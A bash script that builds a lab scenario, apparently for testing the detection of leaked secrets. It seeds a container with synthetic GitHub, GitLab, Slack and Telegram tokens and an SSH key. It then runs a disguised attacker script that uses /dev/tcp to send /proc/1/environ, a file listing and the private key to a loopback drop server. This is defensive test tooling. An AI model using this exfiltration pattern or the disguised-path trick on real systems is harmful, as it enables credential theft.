#!/bin/bash
# Scenario secrets-queue (held-out variant of secretsenv / secretsmem): secret formats the
# other scenes do not use — a GitHub fine-grained token (github_pat_), a GitLab token
# (glpat-), a Slack user token (xoxp-), a Telegram bot token and an OpenSSH private key. The
# workload (perl, pid 1) has the tokens in its environment and the key in a mounted
# directory; an attacker's bash (exec'd later) opens /dev/tcp to 127.173.x.y, writes a
# banner, a file listing, the workload's environment (/proc/1/environ) and the key, then waits: the drop
# server never reads, so they wait in the send queue.
# Usage: lab/scenarios/secrets-queue.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init secrets-queue "$@"

DROP="$(lab_addr 173):$(lab_pick 7443 2096 10443)"
SCRIPT=/usr/lib/x86_64-linux-gnu/.ldconfig-$(lab_hex 2)
lab_host_dir KEYS keys
ssh-keygen -q -t ed25519 -N '' -C "deploy@$(lab_pick build-2 ci-4 runner-9)" -f "$KEYS/deploy_key" </dev/null \
    || lab_die "ssh-keygen failed"
rm -f "$KEYS/deploy_key.pub"
chmod 644 "$KEYS/deploy_key"
"$LAB_PY" - "$WORK/tokens.json" <<'PYEOF' || lab_die "tokens"
import json, random, string, sys
R = random.SystemRandom()
an = string.ascii_letters + string.digits
def r(a, n): return "".join(R.choice(a) for _ in range(n))
json.dump({
    "github_pat": "github_pat_" + r(an, 22) + "_" + r(an, 59),
    "gitlab_token": "glpat-" + r(an + "-_", 20),
    "slack_user_token": "xoxp-%d-%d-%d-%s" % (R.randint(10**10, 10**11), R.randint(10**11, 10**12),
                                               R.randint(10**12, 10**13), r("0123456789abcdef", 32)),
    "telegram_bot_token": "%d:AA%s" % (R.randint(10**9, 2 * 10**9), r(an + "-_", 33)),
}, open(sys.argv[1], "w"))
PYEOF
T=$WORK/tokens.json
cat >"$WORK/exfil.sh" <<EOS
#!/bin/bash
exec 3<>/dev/tcp/${DROP%:*}/${DROP#*:} || exit 1
printf 'HELLO %s %s\n' "\$(hostname)" "\$(id -un)" >&3
find /etc /usr/share -type f 2>/dev/null | head -c 40000 >&3
tr '\0' '\n' </proc/1/environ >&3
cat /srv/deploy/keys/deploy_key >&3
exec sleep 86400
EOS

lab_peer_on drop "$DROP" perl "$PEERS/sink.pl" --listen "$DROP" --read none --rcvbuf 2048 --summary "$WORK/peer-drop.json"

lab_run --env APP_ENV=prod --env "GITHUB_PAT=$(lab_json_pick "$T" github_pat)" \
    --env "GITLAB_TOKEN=$(lab_json_pick "$T" gitlab_token)" --env "SLACK_USER_TOKEN=$(lab_json_pick "$T" slack_user_token)" \
    --env "TELEGRAM_BOT_TOKEN=$(lab_json_pick "$T" telegram_bot_token)" -v "$KEYS:/srv/deploy/keys:ro" \
    --hostname release-bot -- perl -e 'open(my $l, ">>", "/var/log/app.log"); while (1) { print $l scalar(localtime), " idle\n"; sleep 5 }'
lab_cp "$WORK/exfil.sh" "$SCRIPT" 0700
lab_exec_bg "bash $SCRIPT"
lab_wait "drop connection open" 15 lab_json "$WORK/peer-drop.json" 'd["sessions"]'
lab_wait_txq "$DROP" 10000 20

lab_finish "$SCRIPT" /srv/deploy/keys/deploy_key

lab_kv_json "$WORK/params.json" "drop=$DROP" "script_path=$SCRIPT" \
    "secrets:=$(cat "$T")" "key_path=/srv/deploy/keys/deploy_key"
lab_facts --conn "sender=$DROP"
lab_truth --description "bash $SCRIPT sends pid 1's environment (GitHub PAT, GitLab, Slack, Telegram tokens) and an OpenSSH key to $DROP; they wait in the send queue" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
